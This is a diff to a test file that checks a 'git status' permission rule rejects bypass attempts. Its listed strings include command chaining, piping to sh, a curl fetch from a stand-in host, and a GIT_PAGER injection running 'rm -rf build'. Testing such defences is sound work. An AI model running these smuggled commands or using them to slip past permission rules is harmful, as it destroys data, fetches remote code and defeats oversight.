@@ -67,7 +67,7 @@ describe('bypass attempts on Bash(git status)', () => {
     'git status | sh',
     'git status || rm x',
     'git status <(curl -s http://x.example/a)',
-    'GIT_PAGER="sh -c id" git status',
+    `GIT_PAGER="sh -c 'rm -rf build'" git status`,
   ];
   for (const c of attempts) {
     it(`not allow: ${JSON.stringify(c)}`, async () => {
